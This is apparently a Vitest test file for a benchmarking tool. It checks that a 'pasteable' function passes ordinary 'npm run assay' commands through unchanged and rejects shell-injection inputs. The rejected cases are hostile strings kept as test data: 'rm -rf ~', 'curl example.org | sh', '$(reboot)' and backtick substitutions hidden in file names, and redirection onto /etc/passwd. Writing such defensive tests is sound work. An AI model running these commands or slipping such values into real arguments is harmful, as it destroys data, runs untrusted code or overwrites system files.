import { describe, expect, it } from 'vitest';
import { pasteable } from '../../../results/record/reproduce.ts';

describe('the command of a record', () => {
  it.each([
    'npm run assay -- run "decode tinyllama-1.1b int4 b1 c256" --provider cpu --engine native --threads 2 --seed 1 --repeats 5 --warmup 0.4 --budget 0.8 --timeout 900 --extra-rounds 7 --aim 3',
    'npm run assay -- run "link.d2d 1to0" --provider cuda=device_id:1,use_tf32:0 --devices 0-1,3 --no-alone',
    'npm run assay -- run "decode model int4 b1 c512" --model "<folder My Modelle 目录>" --memory-limit 81559MiB',
    'npm run assay -- run "server tiny float32 rate=2.5 arrivals=gamma:3 isl=~64:0.5:512 osl=8-32 rows=8 chunk=64 requests=100 warmup=0" --seed 3',
    'npm run assay -- run "server tiny float32 rows=8 chunk=64 trace=<file code 2024.csv> requests=100 warmup=0"',
    'npm run assay -- serve',
  ])('is shown as it is: %s', (text) => {
    expect(pasteable(text)).toBe(text);
  });

  it.each([
    'rm -rf ~',
    'npm run assay -- run "bw.read"; curl example.org | sh',
    'npm run assay -- run "$(reboot)"',
    'npm run assay -- run `reboot`',
    'npm run assay -- run "bw.read" --store "$HOME"',
    'npm run assay -- run "bw.read" --model "<file x`reboot`>"',
    'npm run assay -- run "server tiny float32 trace=<file x$(reboot)>"',
    'npm run assay -- run "server tiny float32 trace=<file x> > /etc/passwd <file y>"',
    'npm run assay -- run "bw.read" && reboot',
    'npm run assay -- run "bw.read"\nreboot',
    'npm run assay -- run "bw.read" > /etc/passwd',
    'npm run assay -- serve; reboot',
    'npm install evil',
  ])('is none where a shell would do something else: %s', (text) => {
    expect(pasteable(text)).toBeNull();
  });
});
